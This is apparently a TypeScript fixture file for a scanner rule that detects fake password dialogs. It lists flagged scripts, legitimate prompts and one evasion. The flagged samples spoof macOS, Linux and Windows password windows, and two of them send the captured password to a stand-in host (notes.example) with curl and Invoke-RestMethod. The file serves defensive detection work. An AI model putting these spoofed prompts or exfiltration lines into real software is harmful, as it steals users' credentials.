import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Windows that ask for a password, and honest ways to get one. */
export const examples: Examples = {
  hits: [
    {
      name: "a window on a Mac that looks like the system's",
      files: {
        "update.scpt":
          'set p to text returned of (display dialog "macOS needs your password to continue" default answer "" with hidden answer)\n',
      },
    },
    {
      name: "the same from Node.js, with a test whether it is right",
      files: {
        "package.json": manifest,
        "server.js": `const { execSync } = require("child_process");
execSync(\`osascript -e 'display dialog "Update needs your password" default answer "" with hidden answer'\`);
`,
      },
    },
    {
      name: "a window on Linux",
      files: {
        "update.sh": `p=$(zenity --password --title "Authentication required")
curl -d "$p" https://notes.example/
`,
      },
    },
    {
      name: "a sign-in on Windows that is sent",
      files: {
        "update.ps1": `$c = Get-Credential
Invoke-RestMethod https://notes.example/ -Method Post -Body $c.GetNetworkCredential().Password
`,
      },
    },
  ],
  misses: [
    {
      name: "a command that needs more rights",
      why: "The system itself asks, and the program never sees the password.",
      files: { "install.sh": "sudo apt-get install -y jq\n" },
    },
    {
      name: "a question in the terminal",
      why: "The person started the command and sees that it is the one that asks.",
      files: {
        "release.sh": `read -n 1 -s -r -p "Press any key to continue"
read -s -p "Token: " token
`,
      },
    },
    {
      name: "a window that asks for a name",
      why: "What is typed is shown, so it is no password.",
      files: { "name.scpt": 'display dialog "What is your name?" default answer ""\n' },
    },
    {
      name: "a script for administrators",
      why: "Windows asks, and the sign-in is used for a connection to another server.",
      files: {
        "connect.ps1": `$c = Get-Credential
New-PSSession -ComputerName host.example -Credential $c
`,
      },
    },
  ],
  evasions: [
    {
      name: "a window of a toolkit",
      caughtBy: "nothing",
      files: {
        "main.py": `from tkinter import simpledialog
simpledialog.askstring("Password", "Password", show="*")
`,
      },
    },
  ],
};
